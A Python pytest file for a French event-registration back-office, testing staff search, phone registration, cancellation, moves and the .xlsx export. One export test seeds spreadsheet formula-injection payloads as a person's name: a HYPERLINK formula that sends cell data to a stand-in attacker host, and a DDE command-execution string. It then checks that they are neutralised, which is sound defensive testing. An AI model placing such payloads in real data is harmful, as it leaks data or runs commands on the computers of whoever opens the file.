"""The staff back-office of registrations: search and filters, a person's registration,
registering, cancelling and moving on their behalf, and the .xlsx export."""

import html
import io
import re
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.auth.models import Role, User
from app.candidates import services
from app.candidates.models import (
    Candidate,
    Referral,
    Registration,
    RegistrationSource,
    RegistrationStatus,
)
from app.candidates.tickets import new_manage_token
from app.db import utcnow
from app.events.models import Event, EventStatus
from app.extensions import db
from app.notifications.models import OutboxMessage
from tests.candidates.conftest import assert_seats_match, database_snapshot
from tests.conftest import registration_form
from tests.pages import read_page

LIST = "/admin/inscriptions/"
EXPORT = "/admin/inscriptions/export.xlsx"
NEW = "/admin/inscriptions/nouvelle"


def text_of(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def linked_ids(response) -> list[int]:
    """Ids of the registrations linked from a page, in their order."""
    return [int(n) for n in re.findall(r'href="/admin/inscriptions/(\d+)"', text_of(response))]


def listed(response) -> list[int]:
    """Ids listed by a page that answered normally."""
    assert response.status_code == 200, response.status_code
    return linked_ids(response)


def staff_user() -> User:
    return db.session.scalars(select(User).where(User.role == Role.STAFF)).one()


def phone_form(event, **overrides) -> dict:
    data = registration_form(**{"event_id": str(event.id), **overrides})
    return data


# --- Who may open these pages -------------------------------------------------------------


def admin_urls(registration_id: int) -> list[tuple[str, str]]:
    base = f"/admin/inscriptions/{registration_id}"
    return [
        ("GET", LIST),
        ("GET", EXPORT),
        ("GET", NEW),
        ("POST", NEW),
        ("GET", base),
        ("GET", f"{base}/annuler"),
        ("POST", f"{base}/annuler"),
        ("GET", f"{base}/changer-d-etape"),
        ("POST", f"{base}/changer-d-etape"),
        ("POST", f"{base}/renvoyer-le-lien"),
    ]


def test_anonymous_is_sent_to_the_sign_in_page_and_nothing_changes(
    client, make_event, make_registration
):
    registration = make_registration(make_event())
    before = database_snapshot()
    for method, url in admin_urls(registration.id):
        response = client.open(url, method=method, data={"event_id": "1"})
        assert response.status_code == 302, url
        assert response.headers["Location"].startswith("/connexion?next="), url
    db.session.expire_all()
    assert database_snapshot() == before


# --- List, search and filters -------------------------------------------------------------


@pytest.fixture
def people(make_event, details):
    """Four registrations at two étapes of one tour, and one at another tour."""
    event = make_event(capacity=2, town="Tourcoing")
    other = make_event(capacity=10, tour=event.tour, town="Ronchin")
    elsewhere = make_event(capacity=10, town="Wattrelos")
    made = {
        "lefevre": services.register(
            event.id,
            details(last_name="Lefèvre", first_name="Élodie", email="elodie.l@exemple.fr"),
        ),
        "martin": services.register(
            event.id,
            details(last_name="Martin", first_name="Jean-Pierre", email=None, phone="+33612345678"),
            source=RegistrationSource.PHONE,
        ),
        "dubois": services.register(
            event.id, details(last_name="Dubois", first_name="Anne", email="anne.dubois@exemple.fr")
        ),
        "ngom": services.register(
            other.id, details(last_name="Ngom", first_name="Awa", email="awa.ngom@exemple.fr")
        ),
        "petit": services.register(
            elsewhere.id, details(last_name="Petit", first_name="Paul", email="paul@exemple.com")
        ),
    }
    db.session.commit()
    return {"event": event, "other": other, "elsewhere": elsewhere, **made}


def ids(people, *names) -> list[int]:
    return [people[name].id for name in names]


def test_list_is_sorted_by_name_and_links_each_registration(staff_client, people):
    response = staff_client.get(LIST)
    assert listed(response) == ids(people, "dubois", "lefevre", "martin", "ngom", "petit")
    page = text_of(response)
    assert "5 inscriptions en tout." in page
    assert people["lefevre"].display_code in page
    assert "Liste d'attente" in page and "position 1" in page  # Dubois, third at capacity 2
    assert "06 12 34 56 78" in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("lefevre", ["lefevre"]),
        ("ÉLODIE LEFÈVRE", ["lefevre"]),
        ("elodie lefevre", ["lefevre"]),
        ("jean pierre", ["martin"]),
        ("Jean-Pierre", ["martin"]),
        ("anne.dubois@exemple", ["dubois"]),
        ("exemple.fr", ["dubois", "lefevre", "ngom"]),
        ("06 12 34 56 78", ["martin"]),
        ("0612345678", ["martin"]),
        ("+33 6 12 34 56 78", ["martin"]),
        ("06.12.34", ["martin"]),
        ("nobody", []),
        ("100%", []),
        ("_", []),
    ],
)
def test_search_by_name_email_or_phone(staff_client, people, query, expected):
    assert listed(staff_client.get(LIST, query_string={"q": query})) == ids(people, *expected)


def test_search_by_ticket_code_with_or_without_dash(staff_client, people):
    registration = people["ngom"]
    code = registration.display_code
    for typed in (code, code.replace("-", ""), code.lower(), f" {code[:4]} {code[5:]} "):
        assert listed(staff_client.get(LIST, query_string={"q": typed})) == [registration.id]


def test_filters_by_event_status_and_source(staff_client, people):
    by_event = staff_client.get(LIST, query_string={"event": people["event"].id})
    assert listed(by_event) == ids(people, "dubois", "lefevre", "martin")
    waiting = staff_client.get(LIST, query_string={"status": "waitlisted"})
    assert listed(waiting) == ids(people, "dubois")
    by_phone = staff_client.get(LIST, query_string={"source": "phone"})
    assert listed(by_phone) == ids(people, "martin")
    combined = staff_client.get(
        LIST, query_string={"event": people["event"].id, "status": "confirmed", "q": "martin"}
    )
    assert listed(combined) == ids(people, "martin")
    assert "1 inscription correspond à la recherche." in text_of(combined)


def test_waiting_list_filter_keeps_the_order_of_the_list(staff_client, make_event, details):
    event = make_event(capacity=0)
    first = services.register(event.id, details(last_name="Zola"))
    second = services.register(event.id, details(last_name="Abel"))
    db.session.commit()
    response = staff_client.get(LIST, query_string={"event": event.id, "status": "waitlisted"})
    assert listed(response) == [first.id, second.id]


@pytest.mark.parametrize(
    ("args", "field", "message"),
    [
        ({"event": "999999"}, "event", "Cette étape n'existe pas"),
        ({"event": "abc"}, "event", "Cette étape n'existe pas"),
        ({"status": "paid"}, "status", "Choisissez un statut dans la liste."),
        ({"source": "fax"}, "source", "Choisissez une origine dans la liste."),
        ({"q": "x" * 101}, "q", "100 caractères au plus."),
    ],
)
def test_a_wrong_filter_is_named_and_ignored(staff_client, people, args, field, message):
    response = staff_client.get(LIST, query_string=args)
    assert response.status_code == 422
    page = read_page(response.get_data(as_text=True))
    assert message in page.field_errors[f"{field}-error"]
    assert message in page.summary_links[f"#{field}"]
    # The wrong criterion is left out; the list still answers.
    assert len(linked_ids(response)) == 5


def test_pagination_keeps_the_filters(staff_client, make_event, details):
    event = make_event(capacity=100)
    other = make_event(capacity=5)
    for number in range(53):
        services.register(
            event.id, details(last_name=f"Nom{'abcdefghijklmnopqrstuvwxyz'[number % 26]}")
        )
    services.register(other.id, details())
    db.session.commit()
    first = staff_client.get(LIST, query_string={"event": event.id})
    assert len(listed(first)) == 50
    assert "Page 1 sur 2" in text_of(first)
    next_page = re.search(r'href="([^"]+)" rel="next"', text_of(first)).group(1)
    assert f"event={event.id}" in next_page and "page=2" in next_page
    second = staff_client.get(next_page)
    assert len(listed(second)) == 3
    assert set(listed(first)).isdisjoint(listed(second))
    for forged in ("0", "-3", "abc", "99999999999999999999"):
        assert staff_client.get(LIST, query_string={"page": forged}).status_code == 200


# --- A person's registration --------------------------------------------------------------


def test_detail_shows_the_person_the_status_and_the_actions(staff_client, people):
    response = staff_client.get(f"/admin/inscriptions/{people['dubois'].id}")
    assert response.status_code == 200
    page = text_of(response)
    assert "Anne Dubois" in page and "anne.dubois@exemple.fr" in page
    assert "Sur la liste d'attente, en position 1." in page
    assert people["dubois"].display_code in page
    assert "En ligne" in page and "La personne elle-même" in page
    assert f"/admin/inscriptions/{people['dubois'].id}/annuler" in page
    assert f"/admin/inscriptions/{people['dubois'].id}/changer-d-etape" in page
    assert "Renvoyer son lien par e-mail" in page

    confirmed = text_of(staff_client.get(f"/admin/inscriptions/{people['martin'].id}"))
    assert f'href="/mon-inscription/{people["martin"].manage_token}/billet"' in confirmed
    assert "Pas d'adresse e-mail" in confirmed
    assert "Renvoyer son lien" not in confirmed  # no email to send it to


@pytest.mark.parametrize("registration_id", ["424242", "99999999999999999999"])
def test_unknown_registration_is_not_found(staff_client, registration_id):
    for url in (
        f"/admin/inscriptions/{registration_id}",
        f"/admin/inscriptions/{registration_id}/annuler",
        f"/admin/inscriptions/{registration_id}/changer-d-etape",
    ):
        assert staff_client.get(url).status_code == 404, url
    assert (
        staff_client.post(f"/admin/inscriptions/{registration_id}/renvoyer-le-lien").status_code
        == 404
    )


# --- Registering someone by phone ---------------------------------------------------------


def test_phone_registration_without_email_records_who_did_it(staff_client, make_event):
    event = make_event(capacity=5)
    response = staff_client.post(
        NEW, data=phone_form(event, email="", phone="06 11 22 33 44", last_name="Lefèvre")
    )
    assert response.status_code == 302, text_of(response)
    registration = db.session.scalars(select(Registration)).one()
    assert response.headers["Location"] == f"/admin/inscriptions/{registration.id}"
    assert registration.source == RegistrationSource.PHONE
    assert registration.created_by_id == staff_user().id
    assert registration.status == RegistrationStatus.CONFIRMED
    assert (registration.candidate.email, registration.candidate.phone) == (None, "+33611223344")
    assert db.session.scalars(select(OutboxMessage)).all() == []  # nobody to email

    page = text_of(staff_client.get(response.headers["Location"]))
    assert f"Marie Lefèvre est inscrit(e) : billet {registration.display_code}." in page
    assert "Téléphone" in page and "Agent Test" in page
    # The ticket is on the page, with its QR code, and a link to print it.
    assert f'src="/mon-inscription/{registration.manage_token}/qr.svg"' in page
    assert f'href="/mon-inscription/{registration.manage_token}/billet"' in page


def test_phone_registration_with_email_sends_the_ticket(staff_client, make_event):
    event = make_event()
    response = staff_client.post(NEW, data=phone_form(event, email="Paul.R@Exemple.fr"))
    assert response.status_code == 302
    message = db.session.scalars(select(OutboxMessage)).one()
    assert (message.kind, message.recipient) == ("registration_confirmed", "paul.r@exemple.fr")


def test_staff_may_register_after_online_registration_closed(staff_client, make_event):
    event = make_event(days_ahead=3, closes_before=5)  # online registration closed 2 days ago
    assert staff_client.post(NEW, data=phone_form(event)).status_code == 302
    assert db.session.scalars(select(Registration)).one().event_id == event.id


def test_phone_form_lists_only_published_future_events_and_preselects(staff_client, make_event):
    event = make_event(town="Tourcoing")
    draft = make_event(town="Brouillonville", status=EventStatus.DRAFT)
    past = make_event(town="Passéville", days_ahead=-3, opens_in=-30)
    page = text_of(staff_client.get(NEW, query_string={"etape": event.id}))
    assert f'<option selected value="{event.id}">' in page or (
        f'value="{event.id}" selected' in page
    )
    assert "Tourcoing" in page
    assert draft.venue.town not in page and past.venue.town not in page


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        (
            {"email": "", "phone": ""},
            "email",
            "Indiquez le téléphone de la personne ou son adresse e-mail",
        ),
        ({"event_id": ""}, "event_id", "Choisissez l'étape où inscrire la personne."),
        ({"event_id": "999999"}, "event_id", "Choisissez l'étape où inscrire la personne."),
        ({"consent": None}, "consent", "Cochez cette case après avoir lu l'information"),
        ({"phone": "01 23"}, "phone", "Écrivez un numéro de téléphone français"),
        ({"birth_year": "2001"}, "birth_year", "réservé aux personnes qui ont 50 ans ou plus"),
    ],
)
def test_phone_registration_errors_are_named_and_nothing_is_written(
    staff_client, make_event, overrides, field, message
):
    event = make_event()
    draft = make_event(status=EventStatus.DRAFT)
    if overrides.get("event_id") == "999999":
        overrides = {**overrides, "event_id": str(draft.id)}  # not offered: a draft
    before = database_snapshot()
    response = staff_client.post(NEW, data=phone_form(event, **overrides))
    assert response.status_code == 422
    page = read_page(response.get_data(as_text=True))
    assert message in page.field_errors[f"{field}-error"]
    assert any(message in text for text in page.summary_links.values())
    db.session.rollback()
    assert database_snapshot() == before


def test_phone_registration_errors_are_listed_in_the_order_of_the_page(staff_client, make_event):
    event = make_event()
    response = staff_client.post(
        NEW,
        data=phone_form(event, event_id="", last_name="", email="", phone="", consent=None),
    )
    assert response.status_code == 422
    page = read_page(response.get_data(as_text=True))
    assert list(page.summary_links) == ["#event_id", "#last_name", "#email", "#consent"]
    body = response.get_data(as_text=True)
    positions = [
        body.index(f'id="{name}"') for name in ("event_id", "last_name", "email", "consent")
    ]
    assert positions == sorted(positions)


def test_phone_registration_of_someone_already_registered_opens_their_registration(
    staff_client, make_event, make_registration
):
    event = make_event()
    existing = make_registration(event, email="deja@exemple.fr")
    response = staff_client.post(NEW, data=phone_form(event, email="DEJA@exemple.fr"))
    assert response.status_code == 302
    assert response.headers["Location"] == f"/admin/inscriptions/{existing.id}"
    assert len(db.session.scalars(select(Registration)).all()) == 1
    assert "déjà inscrite à cette étape" in text_of(staff_client.get(response.headers["Location"]))


def test_full_event_puts_a_phone_registration_on_the_waiting_list(staff_client, make_event):
    event = make_event(capacity=0)
    response = staff_client.post(NEW, data=phone_form(event))
    registration = db.session.scalars(select(Registration)).one()
    assert registration.status == RegistrationStatus.WAITLISTED
    page = text_of(staff_client.get(response.headers["Location"]))
    assert "est sur la liste d'attente" in page


# --- Cancelling, moving, sending the link again -------------------------------------------


def test_cancel_on_behalf_asks_first_then_promotes_the_waiting_list(
    staff_client, make_event, make_registration
):
    event = make_event(capacity=1)
    confirmed = make_registration(event)
    waiting = make_registration(event)
    url = f"/admin/inscriptions/{confirmed.id}/annuler"

    before = database_snapshot()
    question = staff_client.get(url)
    assert question.status_code == 200
    assert "Oui, annuler cette inscription" in text_of(question)
    db.session.expire_all()
    assert database_snapshot() == before  # the GET changed nothing

    response = staff_client.post(url)
    assert response.headers["Location"] == f"/admin/inscriptions/{confirmed.id}"
    db.session.expire_all()
    assert confirmed.status == RegistrationStatus.CANCELLED
    assert waiting.status == RegistrationStatus.CONFIRMED
    assert_seats_match(event.id)
    kinds = db.session.scalars(select(OutboxMessage.kind).order_by(OutboxMessage.id)).all()
    assert kinds[-2:] == ["registration_cancelled", "registration_promoted"]
    page = text_of(staff_client.get(response.headers["Location"]))
    assert "est annulée" in page and "1 personne de la liste d'attente est confirmée" in page

    again = staff_client.post(url)
    assert again.status_code == 302
    assert "déjà annulée" in text_of(staff_client.get(again.headers["Location"]))


def test_move_on_behalf_keeps_the_ticket_and_promotes_at_the_old_event(
    staff_client, make_event, make_registration
):
    event = make_event(capacity=1, town="Tourcoing")
    # Online registration to the target is closed: staff may still move people there.
    target = make_event(tour=event.tour, town="Ronchin", days_ahead=4, closes_before=6)
    moving = make_registration(event)
    waiting = make_registration(event)
    code = moving.ticket_code

    form = staff_client.get(f"/admin/inscriptions/{moving.id}/changer-d-etape")
    assert form.status_code == 200 and "Ronchin" in text_of(form)
    response = staff_client.post(
        f"/admin/inscriptions/{moving.id}/changer-d-etape", data={"event_id": str(target.id)}
    )
    assert response.status_code == 302
    db.session.expire_all()
    assert (moving.event_id, moving.status, moving.ticket_code) == (
        target.id,
        RegistrationStatus.CONFIRMED,
        code,
    )
    assert waiting.status == RegistrationStatus.CONFIRMED
    assert_seats_match(event.id, target.id)
    page = text_of(staff_client.get(response.headers["Location"]))
    assert "passe de Tourcoing à Ronchin" in page


def test_move_refuses_an_event_of_another_tour(staff_client, make_event, make_registration):
    event = make_event()
    same_tour = make_event(tour=event.tour)
    other_tour = make_event()
    registration = make_registration(event)
    before = database_snapshot()
    response = staff_client.post(
        f"/admin/inscriptions/{registration.id}/changer-d-etape",
        data={"event_id": str(other_tour.id)},
    )
    assert response.status_code == 422
    page = read_page(response.get_data(as_text=True))
    assert "Choisissez une des étapes de la liste." in page.field_errors["event_id-error"]
    assert same_tour.venue.town in text_of(response)
    db.session.rollback()
    assert database_snapshot() == before


def test_resend_link_queues_an_email_and_needs_an_address(
    staff_client, make_event, make_registration
):
    event = make_event()
    with_email = make_registration(event)
    without_email = make_registration(event, email=None, phone="+33600000001")
    assert (
        staff_client.get(f"/admin/inscriptions/{with_email.id}/renvoyer-le-lien").status_code == 405
    )

    response = staff_client.post(f"/admin/inscriptions/{with_email.id}/renvoyer-le-lien")
    assert response.status_code == 302
    kinds = db.session.scalars(select(OutboxMessage.kind)).all()
    assert kinds.count("registration_link") == 1
    assert "part par e-mail" in text_of(staff_client.get(response.headers["Location"]))

    response = staff_client.post(f"/admin/inscriptions/{without_email.id}/renvoyer-le-lien")
    assert db.session.scalars(select(OutboxMessage.kind)).all().count("registration_link") == 1
    assert "pas d'adresse e-mail" in text_of(staff_client.get(response.headers["Location"]))


# --- Export -------------------------------------------------------------------------------


def open_export(response):
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return sheet, rows[0], rows[1:]


def test_export_holds_the_filtered_list_with_real_dates(staff_client, people, today):
    event = people["event"]
    response = staff_client.get(EXPORT, query_string={"event": event.id})
    disposition = response.headers["Content-Disposition"]
    assert (
        f'filename="inscriptions-tourcoing-{event.date.isoformat()}-export-{today.isoformat()}.xlsx"'
        in disposition
    )
    sheet, headers, rows = open_export(response)
    assert headers[:4] == ["Nom", "Prénom", "E-mail", "Téléphone"]
    assert "Date de l'étape" in headers and "Statut" in headers and "Billet" in headers
    assert sheet.freeze_panes == "A2"
    assert [row[0] for row in rows] == ["Dubois", "Lefèvre", "Martin"]
    column = {name: index for index, name in enumerate(headers)}
    martin = rows[2]
    assert martin[column["Téléphone"]] == "06 12 34 56 78"
    assert martin[column["E-mail"]] is None
    assert martin[column["Origine"]] == "Téléphone"
    assert martin[column["Billet"]] == people["martin"].display_code
    assert rows[0][column["Statut"]] == "Liste d'attente"
    assert rows[0][column["Position en liste d'attente"]] == 1
    assert martin[column["Date de l'étape"]] == datetime.combine(event.date, datetime.min.time())
    assert isinstance(martin[column["Inscription le"]], datetime)
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["F"].width


def test_export_without_filter_has_everyone(staff_client, people, today):
    response = staff_client.get(EXPORT)
    assert (
        f"inscriptions-toutes-etapes-{today.isoformat()}.xlsx"
        in response.headers["Content-Disposition"]
    )
    _sheet, _headers, rows = open_export(response)
    assert len(rows) == 5


def test_export_neutralises_formulas_typed_as_names(staff_client, make_event):
    """The registration form refuses such names; a row written another way must stay inert."""
    event = make_event()
    candidate = Candidate(
        last_name='=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        first_name="+cmd|' /C calc'!A0",
        email="-2+3@exemple.fr",
        phone=None,
        birth_year=1960,
        postcode="59000",
        domains=[],
        consented_at=utcnow(),
    )
    db.session.add(
        Registration(
            candidate=candidate,
            event=event,
            status=RegistrationStatus.CANCELLED,
            source=RegistrationSource.ONLINE,
            referral=Referral.OTHER,
            ticket_code="ABCD2345",
            manage_token=new_manage_token(),
            cancelled_at=utcnow(),
        )
    )
    db.session.commit()
    sheet, _headers, rows = open_export(staff_client.get(EXPORT))
    assert rows[0][:3] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "'+cmd|' /C calc'!A0",
        "'-2+3@exemple.fr",
    ]
    for cell in sheet[2]:
        assert cell.data_type != "f"


def test_export_needs_staff(client, make_event):
    assert client.get(EXPORT).status_code == 302


def test_dates_in_the_export_are_paris_time(staff_client, make_event, make_registration):
    event = make_event()
    registration = make_registration(event)
    registration.created_at = datetime(2026, 1, 15, 8, 30, tzinfo=utcnow().tzinfo)
    db.session.commit()
    _sheet, headers, rows = open_export(staff_client.get(EXPORT))
    assert rows[0][headers.index("Inscription le")] == datetime(2026, 1, 15, 9, 30)  # UTC+1


def test_counts_stay_consistent_after_staff_actions(staff_client, make_event, make_registration):
    event = make_event(capacity=2)
    target = make_event(tour=event.tour, capacity=1)
    people = [make_registration(event) for _ in range(4)]
    staff_client.post(f"/admin/inscriptions/{people[0].id}/annuler")
    staff_client.post(
        f"/admin/inscriptions/{people[1].id}/changer-d-etape", data={"event_id": str(target.id)}
    )
    assert_seats_match(event.id, target.id)
    db.session.expire_all()
    assert db.session.get(Event, event.id).seats_taken == 2
    assert [p.status for p in people] == [
        RegistrationStatus.CANCELLED,
        RegistrationStatus.CONFIRMED,
        RegistrationStatus.CONFIRMED,
        RegistrationStatus.CONFIRMED,
    ]
